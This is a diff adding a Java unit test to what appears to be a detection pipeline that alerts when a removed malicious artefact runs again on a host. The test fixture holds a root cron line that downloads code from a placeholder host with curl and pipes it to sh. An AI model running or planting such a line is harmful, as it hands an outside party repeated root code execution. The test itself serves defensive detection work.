@@ -1138,6 +1138,40 @@ final class ReturnsTest {
         });
     }
 
+    /** A drill by others: what was left ran, and was told as a return first and as not removed with the next scan. */
+    @Test
+    void whatRunsOfAnArtefactThatStillStandsThereIsNoReturn() throws Exception {
+        with(line -> {
+            Item item =
+                    Line.cron("upd", "* * * * * root curl -s http://tervaquilo.example/a | sh", Item.Shipped.UNOWNED);
+            for (AgentId host : List.of(first, second)) {
+                line.send(host, line.seen(Change.PRESENT, item), line.listed(item.location()));
+            }
+            mark(line, first, item);
+            Instant end = line.now.plus(Duration.ofHours(2));
+            evicted(line, end);
+            line.now = end.plus(Duration.ofMinutes(1));
+            Event ran = started(line, "/usr/bin/curl", "curl -s http://tervaquilo.example/a", Optional.empty());
+            line.send(first, ran);
+            assertEquals(List.of("vigie-not-removed"), rules(line));
+            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
+            line.pipeline.tick(line.now.plus(Duration.ofMinutes(10)));
+            assertEquals(List.of("vigie-not-removed"), rules(line), "one artefact, one alert");
+            // on another host nothing of it was marked: there it is one
+            line.send(second, ran);
+            String here = "address rare-name sister-host";
+            assertEquals(List.of("not-removed pc-1 ", "suspected-return pc-2 " + here), told(line));
+            // what is gone and runs again came back
+            line.now = line.now.plus(Duration.ofHours(1));
+            line.send(first, line.seen(Change.REMOVED, item));
+            line.now = line.now.plus(Duration.ofHours(1));
+            line.send(first, ran);
+            assertEquals(
+                    List.of("not-removed pc-1 ", "suspected-return pc-2 " + here, "suspected-return pc-1 " + here),
+                    told(line));
+        });
+    }
+
     /** That it was not removed is told of what was there when it was to be gone: what came after that is a return, once. */
     @Test
     void whatWasRemovedAndComesBackToItsHostIsToldOnce() throws Exception {
